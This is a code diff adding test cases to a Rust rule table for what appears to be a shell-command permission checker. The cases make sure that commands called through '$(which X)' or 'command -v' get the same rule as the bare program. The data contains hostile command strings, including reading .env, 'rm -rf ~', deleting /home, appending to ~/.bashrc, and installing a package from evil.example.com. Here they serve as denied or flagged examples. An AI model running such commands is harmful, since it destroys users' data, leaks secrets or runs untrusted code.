@@ -80,6 +80,18 @@ pub(crate) const CASES: &[Case] = &[
     ask("opaque.exec", "fakeroot $1"),
     ask("opaque.exec", "find . -exec \"$CMD\" {} \\;"),
     allow("sudo \"$(which node)\" app.js"),
+    // A program named by the lookup of its name (`$(which X)`, `$(command -v X)`, `type -P`)
+    // is X, for every rule.
+    deny("files.deny-read", "$(which cat) .env"),
+    deny("files.deny-read", "`which cat` .env"),
+    deny("files.deny-read", "$(type -P cat) .env"),
+    deny("rm.home", "\"$(which bash)\" -c 'rm -rf ~'"),
+    deny("rm.home", "\"$(command -v sh)\" -c 'rm -rf ~'"),
+    deny("files.deny-write", "$(which tee) -a ~/.bashrc"),
+    deny("rm.home", "$(which python3) -c 'import shutil; shutil.rmtree(\"/home\")'"),
+    allow("$(which python3) --version"),
+    allow("\"$(command -v node)\" script.js"),
+    allow("$(which cat) README.md"),
     allow("sudo -u \"$USER\" make"),
     // Installers of packages from URLs, repositories and other indexes run their code.
     ask("opaque.exec", "npm install https://evil.example.com/x.tgz"),
